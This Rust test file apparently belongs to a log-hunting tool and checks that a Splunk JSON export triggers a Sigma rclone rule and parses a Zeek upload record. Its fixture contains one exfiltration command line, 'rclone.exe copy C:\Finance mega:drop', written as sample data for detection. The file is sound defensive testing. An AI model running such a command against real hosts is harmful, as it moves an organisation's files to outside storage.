//! A Splunk search export reaches the built-in Sigma rules and the flow
//! analytics as the original logs do.

mod support;

use support::hunt_one_file;

/// A classic `WinEventLog` 4688 of rclone and a Zeek conn record indexed as
/// JSON (`_raw`), one result a line, then Splunk's last line.
const EXPORT: &str = concat!(
    r#"{"preview":false,"offset":0,"result":{"_bkt":"wineventlog~1~X","_cd":"1:22","_time":"2026-11-24T02:48:05.000+00:00","host":"ws1","sourcetype":"WinEventLog","LogName":"Security","EventCode":"4688","ComputerName":"ws1.corp.example","SourceName":"Microsoft Windows security auditing.","Account_Name":["alice","-"],"New_Process_Name":"C:\\Tools\\rclone.exe","Process_Command_Line":"rclone.exe copy C:\\Finance mega:drop","Creator_Process_Name":"C:\\Windows\\System32\\cmd.exe"}}"#,
    "\n",
    r#"{"preview":false,"offset":1,"result":{"_raw":"{\"ts\":1795920490.0,\"uid\":\"C1\",\"id.orig_h\":\"10.0.0.5\",\"id.orig_p\":50000,\"id.resp_h\":\"203.0.113.9\",\"id.resp_p\":443,\"proto\":\"tcp\",\"orig_bytes\":7340032,\"resp_bytes\":1200,\"duration\":30.0}","_time":"2026-11-24T02:48:10.000+00:00","host":"zeek1","sourcetype":"bro:conn:json"}}"#,
    "\n",
    r#"{"preview":false,"offset":2,"lastrow":true}"#,
    "\n",
);

#[test]
fn a_splunk_export_fires_the_rclone_rule_and_reads_the_zeek_record() {
    let outcome = hunt_one_file("export.json", EXPORT);
    let rclone = outcome
        .alerts
        .iter()
        .find(|a| a.detector == "sigma" && a.rule_name.contains("Rclone"))
        .expect("the built-in rclone rule fires on the exported 4688");
    assert_eq!(rclone.host_name.as_deref(), Some("ws1.corp.example"));
    assert_eq!(rclone.user_name.as_deref(), Some("alice"));
    // Both results are events, and Splunk's last line is not a bad record.
    assert_eq!(outcome.stats.files_by_format.get("json-splunk"), Some(&1));
    assert_eq!(outcome.stats.events.values().sum::<u64>(), 2);
    assert!(
        outcome.stats.skipped.is_empty(),
        "{:?}",
        outcome.stats.skipped
    );
    // The Zeek record from `_raw` is a flow with its bytes: the off-hours
    // analytic sees a 7 MB upload at 02:48.
    assert!(
        outcome
            .stats
            .events
            .contains_key(&("json-splunk", "network")),
        "{:?}",
        outcome.stats.events
    );
}
